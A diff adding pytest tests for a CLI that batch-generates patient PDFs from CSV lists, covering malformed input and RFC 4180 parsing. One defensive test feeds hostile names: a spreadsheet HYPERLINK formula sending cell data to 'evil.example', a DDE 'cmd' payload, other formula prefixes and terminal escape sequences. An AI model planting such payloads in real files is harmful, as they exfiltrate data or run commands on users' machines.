@@ -1,0 +1,97 @@
+"""`pdfgen batch` reads a list as spreadsheets save it; a bad list or row is one line."""
+
+from __future__ import annotations
+
+import email
+from email import policy
+from pathlib import Path
+
+import pytest
+from batch_helpers import patients_csv, report
+from conftest import files_in, pdf_text, run
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("", "error: list.csv: the file is empty; expected a header line with a name column "
+             "(name, level, routine, plan, date, email, language)"),
+        ("level,email\n2,a@example.com\n", "error: list.csv: no 'name' column; the header "
+                                           "line must name it"),
+        ("name,level,phone\nAna,2,555\n", "error: list.csv: unknown column(s) 'phone'; "
+                                          "expected name, level, routine, plan, date, email, "
+                                          "language"),
+        ("name,level\n", "error: list.csv: no patients below the header line"),
+    ],
+)
+def test_an_unusable_list_is_exit_2_and_one_line(demo: Path, text: str, message: str) -> None:
+    (demo / "list.csv").write_text(text, encoding="utf-8")
+    result = run("batch", "list.csv", cwd=demo)
+    assert (result.exit_code, result.stderr) == (2, message + "\n")
+    assert files_in(demo / "out") == []
+
+
+def test_a_list_saved_with_semicolons_is_read(demo: Path) -> None:
+    (demo / "semi.csv").write_text("name;level\nAna Ruiz;2\n", encoding="utf-8-sig")
+    result = run("batch", "semi.csv", cwd=demo)
+    assert result.exit_code == 0, result.output
+    assert (demo / "out/semi/back-pain-level-2-ana-ruiz.pdf").is_file()
+
+
+def test_the_report_is_text_in_a_spreadsheet_and_names_are_safe_to_print(demo: Path) -> None:
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+             "@SUM(1+1)", "-2+3", "Ana \x1b]0;pwned\x07\x1b[31mRed\u202eevil"]
+    rows = [{"name": n, "level": "9"} for n in names]  # every row fails: names get printed
+    result = run("batch", str(patients_csv(demo / "p.csv", rows)), cwd=demo)
+    assert result.exit_code == 1, result.output
+    assert not any(c in result.output for c in "\x1b\x07\u202e")
+    assert "row 6 (Ana \\x1b]0;pwned\\x07\\x1b[31mRed\\u202eevil): level 9" in result.stdout
+    cells = [cell for line in report(demo / "out/p") for cell in line.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [line["name"] for line in report(demo / "out/p")][:4] == [
+        "'" + name for name in names[:4]]
+    assert not any(c in (demo / "out/p/batch-report.csv").read_text() for c in "\x1b\x07")
+
+
+def test_a_list_is_read_as_rfc_4180_says(demo: Path) -> None:
+    (demo / "p.csv").write_text(
+        'name,level,email\n"Jane\nDoe",2,jane@example.com\n'
+        "Ana\u2028Ruiz,1,ana@example.com\nBo Li,2,bo@example.com\n", encoding="utf-8")
+    result = run("batch", "p.csv", "--draft", cwd=demo)
+    assert result.exit_code == 0, result.output
+    lines = report(demo / "out/p")
+    assert [(line["row"], line["name"], line["file"]) for line in lines] == [
+        ("2", "Jane Doe", "back-pain-level-2-jane-doe.pdf"),
+        ("3", "Ana Ruiz", "back-pain-level-1-ana-ruiz.pdf"),
+        ("4", "Bo Li", "back-pain-level-2-bo-li.pdf")]
+    assert "Prepared for Jane Doe" in pdf_text(demo / "out/p/back-pain-level-2-jane-doe.pdf")
+    draft = email.message_from_bytes(
+        (demo / "out/p/back-pain-level-1-ana-ruiz.eml").read_bytes(), policy=policy.default)
+    assert draft["To"] == "ana@example.com"
+
+
+@pytest.mark.parametrize(("text", "message"), [
+    ("name,level\nAna,2,extra\n",
+     "error: list.csv: row 2: 3 cells but the header names 2 columns (name, level); cell 3 is "
+     "'extra': put a cell that holds a comma in double quotes"),
+    ("name;level\nAna;2\nBo;1;x;y\n",
+     "error: list.csv: row 3: 4 cells but the header names 2 columns (name, level); cell 3 is "
+     "'x': put a cell that holds a semicolon in double quotes"),
+    ('name,level\nAna,2\n"Bo"x,1\n',
+     'error: list.csv: row 3: not valid CSV (near line 3 of the file): a cell with a double '
+     'quote must start and end with one, and a quote inside it is written twice ("")'),
+])
+def test_an_invalid_row_is_refused_naming_it(demo: Path, text: str, message: str) -> None:
+    (demo / "list.csv").write_text(text, encoding="utf-8")
+    result = run("batch", "list.csv", cwd=demo)
+    assert (result.exit_code, result.stderr) == (2, message + "\n")
+    assert files_in(demo / "out") == []
+
+
+def test_failed_rows_are_listed_in_the_order_of_the_list(demo: Path) -> None:
+    rows = [{"name": f"Patient {i}", "level": "2"} for i in range(8)]
+    rows[3]["level"] = rows[4]["level"] = "9"  # row 5 fails after 3 builds, row 6 at once
+    result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--jobs", "2", cwd=demo)
+    assert result.exit_code == 1, result.output
+    failed = [line for line in result.stdout.splitlines() if line.startswith("  row ")]
+    assert [line.split(" (")[0] for line in failed] == ["  row 5", "  row 6"]
